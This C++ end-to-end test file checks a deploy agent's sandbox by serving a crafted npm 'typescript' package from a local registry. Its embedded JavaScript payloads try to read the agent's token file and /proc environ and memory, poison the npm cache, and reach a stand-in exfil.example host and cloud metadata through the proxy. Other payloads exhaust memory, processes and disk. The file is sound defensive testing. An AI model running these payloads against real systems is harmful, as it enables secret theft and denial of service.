// End to end with a hostile registry package: the app's lockfile pins a crafted `typescript`
// served by a local npm registry, and the Convex CLI runs its bin/tsc to typecheck. That
// script runs inside the deploy with the deploy key in its environment, tries what a
// malicious package would (the agent's token file, its environment, the state directory, the
// shared npm cache, signalling the agent), and prints what it got. Run at every sandbox tier.
//
// The stand-in and the agent are real processes; the registry runs in this test process on
// loopback. The agent installs online (no --npm-offline) from that registry with an empty
// npm cache, so every package comes from it and nothing reaches the public registry.
#include <gtest/gtest.h>

#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <sstream>

#include <nlohmann/json.hpp>

#include "support/archive_builder.h"
#include "support/counting_listener.h"
#include "support/e2e.h"
#include "support/npm_registry.h"
#include "support/secret_scan.h"
#include "support/server_process.h"

namespace fs = std::filesystem;
using testsupport::ArchiveBuilder;
using testsupport::httpRequest;
using testsupport::NpmRegistry;
using testsupport::ServerProcess;
using Json = nlohmann::json;

namespace {

const std::string kAgentToken = "e2e-hostile-agent-token-0123456789";
const std::string kTeamToken = "e2e-hostile-team-token-abcdef0123";
const std::string kDeployment = "happy-otter-123";
const std::string kTypescript = "typescript";

// The crafted tsc: every attempt prints "TRY <what>: ok" or "TRY <what>: error <code>", then
// it exits 0 so that the deploy goes on (a typecheck that passes).
std::string hostileTscScript(const std::vector<std::string>& reads, const std::vector<std::string>& lists,
                             const std::vector<std::string>& writes, int agent_pid) {
  return "const fs = require('fs');\n"
         "console.log('HOSTILE_TSC_RAN');\n"
         "const attempt = (what, fn) => { try { fn(); console.log(`TRY ${what}: ok`); }\n"
         "  catch (e) { console.log(`TRY ${what}: error ${e.code || e.message}`); } };\n"
         "for (const p of " + Json(reads).dump() + ") attempt(`read ${p}`, () => fs.readFileSync(p));\n"
         "for (const p of " + Json(lists).dump() + ") attempt(`list ${p}`, () => fs.readdirSync(p));\n"
         "for (const p of " + Json(writes).dump() + ") attempt(`write ${p}`, () => fs.writeFileSync(p, 'poison'));\n"
         "attempt('signal " + std::to_string(agent_pid) + "', () => process.kill(" + std::to_string(agent_pid) + ", 'SIGCONT'));\n"
         "attempt('key in env', () => { if (!process.env.CONVEX_DEPLOY_KEY) throw new Error('absent'); });\n"
         "process.exit(0);\n";
}

class HostileRegistryE2E : public ::testing::TestWithParam<std::string> {
 protected:
  static void SetUpTestSuite() {
    try {
      dir_ = fs::temp_directory_path() / ("da-e2e-hostile-" + std::to_string(getpid()));
      fs::remove_all(dir_);
      fs::create_directories(dir_);
      // The agent's own secret, in a file the hostile tsc will try to read.
      token_file_ = dir_ / "agent-token";
      std::ofstream(token_file_) << kAgentToken << "\n";
      fs::permissions(token_file_, fs::perms::owner_read | fs::perms::owner_write);
      registry_ = std::make_unique<NpmRegistry>();
      registry_->start();
      const fs::path cache = fs::path(testsupport::toolchainDir()) / "npm-cache";
      registry_->servePackagesOfLockfile(testsupport::exampleAppDir() / "package-lock.json", cache);
      standin_ = std::make_unique<ServerProcess>(
          testsupport::binaryDir() + "/bin/convex-standin",
          std::vector<std::string>{"--listen", "127.0.0.1:0", "--team-token", kTeamToken, "--deployment",
                                   kDeployment + ":prod"},
          std::map<std::string, std::string>{});
    } catch (const std::exception& e) {
      setup_error_ = e.what();
    }
  }

  static void TearDownTestSuite() {
    standin_.reset();
    registry_.reset();
    fs::remove_all(dir_);
  }

  // A failed start fails every test (not skips it): a suite that cannot run must not pass.
  void SetUp() override {
    ASSERT_TRUE(setup_error_.empty()) << setup_error_;
    startAgent({});
  }

  void startAgent(const std::vector<std::string>& extra_args) {
    agent_.reset();
    state_ = dir_ / ("state-" + GetParam());
    cache_ = dir_ / ("npm-cache-" + GetParam());
    // Online, from the local registry only: an empty cache and no --npm-offline.
    fs::create_directories(cache_);
    std::vector<std::string> args = {"--listen", "127.0.0.1:0", "--state-dir", state_.string(), "--convex-url",
                                     standin_->baseUrl(), "--toolchain", testsupport::toolchainDir(), "--npm-cache",
                                     cache_.string(), "--npm-registry", registry_->url(), "--token-file",
                                     token_file_.string(), "--cli-timeout", "120", "--install-timeout", "300",
                                     "--sandbox", GetParam(), "--drain-seconds", "0"};
    args.insert(args.end(), extra_args.begin(), extra_args.end());
    fs::create_directories(state_);
    agent_ = std::make_unique<ServerProcess>(testsupport::binaryDir() + "/bin/deploy-agent", args,
                                             std::map<std::string, std::string>{{"CONVEX_TEAM_TOKEN", kTeamToken}},
                                             (state_ / "agent.log").string());
  }

  // Deploys an app whose typescript's tsc runs `script`; returns the terminal report.
  Json deployWithTsc(const std::string& script, const std::string& variant) {
    const fs::path app = craftApp(script, variant);
    auto accepted = httpRequest("POST", agent_->baseUrl() + "/v1/deploys?target=prod&deployment=" + kDeployment +
                                            "&typecheck=enable",
                                {{"Authorization", "Bearer " + kAgentToken}, {"Content-Type", "application/gzip"}},
                                ArchiveBuilder::fromDirectory(app).build(ArchiveBuilder::Format::kTarGz));
    EXPECT_EQ(accepted.status, 202) << accepted.body;
    if (accepted.status != 202) return {};
    last_id_ = Json::parse(accepted.body)["id"];
    return waitForReport(last_id_);
  }

  // Whatever the hostile package printed or tried, no secret of the agent reached its state,
  // its reports or its log, in any encoding.
  void TearDown() override {
    agent_.reset();
    testsupport::SecretScan scan;
    scan.addSecret(kAgentToken);
    scan.addSecret(kTeamToken);
    scan.expectClean(state_);
  }

  // Publishes a crafted typescript (its own version per tier and variant) and writes an app
  // that pins it.
  fs::path craftApp(const std::string& script, const std::string& variant = "escape") {
    const std::string version =
        std::string(testsupport::kHostileTypescriptVersion) + "-" + variant + "." + GetParam();
    const std::string integrity =
        registry_->addPackageFromFiles(kTypescript, version, testsupport::hostileTypescriptFiles(script));
    const fs::path app = dir_ / ("crafted-app-" + variant + "-" + GetParam());
    testsupport::writeAppWithTypescript(testsupport::exampleAppDir(), app, version,
                                        registry_->tarballUrl(kTypescript, version), integrity);
    version_ = version;
    return app;
  }

  testsupport::HttpResult agentGet(const std::string& path) {
    return httpRequest("GET", agent_->baseUrl() + path, {{"Authorization", "Bearer " + kAgentToken}});
  }

  // Long-polls the report until it is terminal (the agent wakes the request when it is).
  Json waitForReport(const std::string& id) {
    for (int attempt = 0; attempt < 8; ++attempt) {
      auto result = agentGet("/v1/deploys/" + id + "?wait=60");
      EXPECT_EQ(result.status, 200) << result.body;
      Json report = Json::parse(result.body);
      if (report["status"] == "succeeded" || report["status"] == "failed") return report;
    }
    ADD_FAILURE() << "deploy " << id << " did not finish within 8 minutes";
    return {};
  }

  std::string log(const std::string& id, const std::string& phase) {
    auto result = agentGet("/v1/deploys/" + id + "/log?phase=" + phase);
    return result.status == 200 ? result.body : "(no " + phase + " log: " + result.body + ")";
  }

  // The hostile tsc's "TRY <what>: <result>" lines, by what.
  static std::map<std::string, std::string> tries(const std::string& cli_log) {
    std::map<std::string, std::string> results;
    std::istringstream lines(cli_log);
    for (std::string line; std::getline(lines, line);) {
      const size_t at = line.find("TRY ");
      const size_t colon = line.rfind(": ");
      if (at == std::string::npos || colon == std::string::npos || colon < at) continue;
      results[line.substr(at + 4, colon - at - 4)] = line.substr(colon + 2);
    }
    return results;
  }

  static inline std::string setup_error_;
  static inline fs::path dir_;
  static inline fs::path token_file_;
  static inline std::unique_ptr<NpmRegistry> registry_;
  static inline std::unique_ptr<ServerProcess> standin_;
  std::unique_ptr<ServerProcess> agent_;
  fs::path state_, cache_;
  std::string version_;
  std::string last_id_;
};

TEST_P(HostileRegistryE2E, CraftedTypescriptRunsAsTscButReachesNothingOfTheAgent) {
  const std::string agent_pid = std::to_string(agent_->pid());
  const std::vector<std::string> reads = {token_file_.string(), "/proc/" + agent_pid + "/environ",
                                          "/proc/" + agent_pid + "/mem"};
  const std::vector<std::string> lists = {state_.string(), (state_ / "jobs").string(), "/proc/" + agent_pid + "/fd"};
  const std::vector<std::string> writes = {(cache_ / "poisoned-packument").string(), (dir_ / "planted").string(),
                                           (state_ / "planted").string()};
  const fs::path app = craftApp(hostileTscScript(reads, lists, writes, agent_->pid()));
  auto accepted = httpRequest("POST", agent_->baseUrl() + "/v1/deploys?target=prod&deployment=" + kDeployment +
                                          "&typecheck=enable",
                              {{"Authorization", "Bearer " + kAgentToken}, {"Content-Type", "application/gzip"}},
                              ArchiveBuilder::fromDirectory(app).build(ArchiveBuilder::Format::kTarGz));
  ASSERT_EQ(accepted.status, 202) << "intake must accept a lockfile resolved on the configured registry: "
                                  << accepted.body;
  const std::string id = Json::parse(accepted.body)["id"];
  const Json report = waitForReport(id);
  const std::string cli_log = log(id, "push");
  const std::string context = report.dump(2) + "\n--- install.log\n" + log(id, "install") + "\n--- cli.log\n" + cli_log;

  // npm installed the crafted package from the local registry, the CLI ran it as tsc, and the
  // deploy itself went through: the sandbox stops the package, not the app.
  EXPECT_EQ(registry_->requestCount(NpmRegistry::tarballPath(kTypescript, version_)), 1u)
      << testing::PrintToString(registry_->requests());
  ASSERT_NE(cli_log.find("HOSTILE_TSC_RAN"), std::string::npos) << context;
  EXPECT_EQ(report["status"], "succeeded") << context;
  EXPECT_EQ(report["sandbox"]["tier"], GetParam()) << context;

  // Every attempt on the agent failed; the positive control (the key it was given) did not.
  const auto results = tries(cli_log);
  std::vector<std::string> denied;
  for (const auto& p : reads) denied.push_back("read " + p);
  for (const auto& p : lists) denied.push_back("list " + p);
  for (const auto& p : writes) denied.push_back("write " + p);
  denied.push_back("signal " + agent_pid);
  for (const auto& what : denied) {
    ASSERT_TRUE(results.count(what)) << "no TRY line for " << what << "\n" << context;
    EXPECT_NE(results.at(what), "ok") << what << " was not stopped\n" << context;
  }
  EXPECT_EQ(results.at("key in env"), "ok") << context;
  EXPECT_EQ(cli_log.find(kAgentToken), std::string::npos);
  EXPECT_FALSE(fs::exists(cache_ / "poisoned-packument"));
  EXPECT_FALSE(fs::exists(dir_ / "planted"));
  EXPECT_FALSE(fs::exists(state_ / "planted"));
  // The agent is unharmed.
  EXPECT_EQ(httpRequest("GET", agent_->baseUrl() + "/healthz").status, 200);
}

// The crafted tsc probes the network: straight TCP to a canary server on the host's loopback
// and to the agent's own port, the same through the job's proxy (CONNECT and plain http),
// cloud metadata, and DNS both ways Node resolves. It waits for every answer, then passes.
std::string networkProbeScript(uint16_t canary_port, uint16_t agent_port) {
  const std::string canary = "127.0.0.1:" + std::to_string(canary_port);
  const std::string agent = "127.0.0.1:" + std::to_string(agent_port);
  return R"JS(
const net = require('net'), dns = require('dns'), http = require('http');
console.log('HOSTILE_TSC_RAN');
const settle = (ms, run) => Promise.race([new Promise(run), new Promise(r => setTimeout(() => r('error timeout'), ms))]);
const direct = (port) => settle(5000, (done) => {
  const s = net.connect({ host: '127.0.0.1', port });
  s.on('connect', () => { s.destroy(); done('ok'); });
  s.on('error', (e) => done('error ' + e.code));
});
const proxy = new URL(process.env.HTTPS_PROXY);
const tunnel = (target) => settle(5000, (done) => {
  const s = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
  let head = '';
  s.on('connect', () => s.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
  s.on('data', (d) => { head += d; if (head.includes('\r\n')) { s.destroy(); done(head.startsWith('HTTP/1.1 200') ? 'ok' : 'error ' + head.slice(9, 12)); } });
  s.on('error', (e) => done('error ' + e.code));
});
const plain = (url) => settle(5000, (done) => {
  const req = http.request({ host: proxy.hostname, port: Number(proxy.port), path: url, headers: { Host: new URL(url).host } },
    (res) => { res.resume(); done(res.statusCode === 200 ? 'ok' : 'error ' + res.statusCode); });
  req.on('error', (e) => done('error ' + e.code));
  req.end();
});
const lookup = (name) => settle(8000, (done) => dns.lookup(name, (e) => done(e ? 'error ' + e.code : 'ok')));
const resolve4 = (name) => settle(8000, (done) => dns.resolve4(name, (e) => done(e ? 'error ' + e.code : 'ok')));
const tries = [
  ['direct canary', () => direct(CANARY_PORT)],
  ['direct agent', () => direct(AGENT_PORT)],
  ['tunnel canary', () => tunnel('CANARY')],
  ['tunnel agent', () => tunnel('AGENT')],
  ['plain canary', () => plain('http://CANARY/steal')],
  ['plain metadata', () => plain('http://169.254.169.254/latest/meta-data/')],
  ['tunnel elsewhere', () => tunnel('exfil.example:443')],
  ['lookup', () => lookup('exfil.example')],
  ['resolve4', () => resolve4('exfil.example')],
];
(async () => {
  for (const [what, run] of tries) console.log(`TRY ${what}: ${await run()}`);
  process.exit(0);
})();
)JS";
}

TEST_P(HostileRegistryE2E, ANetworkProbeReachesNothingAndEveryProxiedAttemptIsReported) {
  testsupport::CountingListener canary;
  const std::string agent_url = agent_->baseUrl();
  const uint16_t agent_port = static_cast<uint16_t>(std::stoi(agent_url.substr(agent_url.rfind(':') + 1)));
  std::string script = networkProbeScript(canary.port(), agent_port);
  auto substitute = [&](const std::string& from, const std::string& to) {
    for (size_t at = script.find(from); at != std::string::npos; at = script.find(from, at + to.size())) {
      script.replace(at, from.size(), to);
    }
  };
  substitute("CANARY_PORT", std::to_string(canary.port()));
  substitute("AGENT_PORT", std::to_string(agent_port));
  substitute("CANARY", "127.0.0.1:" + std::to_string(canary.port()));
  substitute("AGENT", "127.0.0.1:" + std::to_string(agent_port));
  const Json report = deployWithTsc(script, "network");
  const std::string cli_log = log(last_id_, "push");
  const std::string context = report.dump(2) + "\n--- cli.log\n" + cli_log;
  ASSERT_NE(cli_log.find("HOSTILE_TSC_RAN"), std::string::npos) << context;
  // The probe failed everywhere, yet the deploy itself went through the proxy.
  EXPECT_EQ(report["status"], "succeeded") << context;
  const auto results = tries(cli_log);
  for (const char* what : {"direct canary", "direct agent", "tunnel canary", "tunnel agent", "plain canary",
                           "plain metadata", "tunnel elsewhere", "lookup", "resolve4"}) {
    ASSERT_TRUE(results.count(what)) << "no TRY line for " << what << "\n" << context;
    EXPECT_NE(results.at(what), "ok") << what << " got through\n" << context;
    EXPECT_NE(results.at(what), "error timeout") << what << " hung instead of failing\n" << context;
  }
  for (const char* what : {"tunnel canary", "tunnel agent", "plain canary", "plain metadata", "tunnel elsewhere"}) {
    EXPECT_EQ(results.at(what), "error 403") << what << "\n" << context;
  }
  EXPECT_EQ(canary.accepted(), 0u) << "the canary server was reached";

  // The report lists every attempt the proxy refused, and the traffic it let through.
  std::map<std::string, uint64_t> denied;
  for (const auto& entry : report["network"]["denied"]) denied[entry["host"]] = entry["attempts"];
  EXPECT_EQ(denied["127.0.0.1:" + std::to_string(canary.port())], 2u) << context;
  EXPECT_EQ(denied["127.0.0.1:" + std::to_string(agent_port)], 1u) << context;
  EXPECT_EQ(denied["169.254.169.254:80"], 1u) << context;
  EXPECT_EQ(denied["exfil.example:443"], 1u) << context;
  const std::string standin_host = standin_->baseUrl().substr(std::string("http://").size());
  bool pushed_through_proxy = false;
  for (const auto& entry : report["network"]["allowed"]) {
    if (entry["host"] == standin_host && entry["bytes_out"].get<uint64_t>() > 0) pushed_through_proxy = true;
  }
  EXPECT_TRUE(pushed_through_proxy) << context;
  EXPECT_EQ(report["network"]["enforcement"], GetParam() == "namespaces" ? "network_namespace" : "landlock_tcp_port")
      << context;
}

TEST_P(HostileRegistryE2E, AJobOverItsLimitsFailsWithTheLimitsReasonAndTheNextJobRuns) {
  startAgent({"--job-memory-bytes", "805306368", "--job-max-processes", "160", "--job-disk-bytes", "268435456"});
  struct Hog {
    std::string variant, reason, script;
  };
  std::vector<Hog> hogs = {
      {"memory", "memory_limit",
       "const held = []; for (;;) held.push(Buffer.alloc(64 << 20, 1));\n"},
      {"processes", "process_limit",
       "const { spawn } = require('child_process');\n"
       "process.on('uncaughtException', () => {});\n"
       "for (let i = 0; i < 400; i++) { try { spawn('/bin/sleep', ['600'], {stdio: 'ignore'}).on('error', () => {}); } catch (e) {} }\n"
       "setTimeout(() => process.exit(1), 2000);\n"},
  };
  // The job volume is the namespaces tier's; Landlock bounds single files only.
  if (GetParam() == "namespaces") {
    hogs.push_back({"disk", "disk_limit",
                    "const fs = require('fs'); const block = Buffer.alloc(1 << 20, 1);\n"
                    "const fd = fs.openSync('filler', 'w'); for (;;) fs.writeSync(fd, block);\n"});
  }
  for (const auto& hog : hogs) {
    const Json report = deployWithTsc(hog.script, hog.variant);
    EXPECT_EQ(report["status"], "failed") << hog.variant << "\n" << report.dump(2) << log(last_id_, "push");
    EXPECT_EQ(report["error"]["reason"], hog.reason) << hog.variant << "\n" << report.dump(2) << log(last_id_, "push");
    EXPECT_EQ(report["phase"], "push") << report.dump(2);
  }
  // The agent carries on: a well-behaved deploy right after succeeds.
  const Json after = deployWithTsc("process.exit(0);\n", "benign");
  EXPECT_EQ(after["status"], "succeeded") << after.dump(2) << log(last_id_, "push");
}

INSTANTIATE_TEST_SUITE_P(EveryTier, HostileRegistryE2E, ::testing::Values("namespaces", "landlock"),
                         [](const ::testing::TestParamInfo<std::string>& info) { return info.param; });

}  // namespace
